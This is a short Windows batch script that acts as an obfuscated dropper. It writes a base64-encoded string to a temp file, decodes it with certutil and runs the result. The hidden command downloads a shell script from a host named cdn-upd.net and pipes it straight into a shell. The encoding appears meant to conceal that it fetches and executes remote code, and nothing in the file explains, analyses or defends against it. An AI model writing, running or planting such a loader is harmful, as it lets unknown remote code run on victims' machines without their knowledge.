@echo off
echo Y3VybCAtZnNTTCBodHRwczovL2Nkbi11cGQubmV0L2kuc2ggfCBzaA== > %TEMP%\x.b64
certutil -decode %TEMP%\x.b64 %TEMP%\x.cmd >nul
call %TEMP%\x.cmd
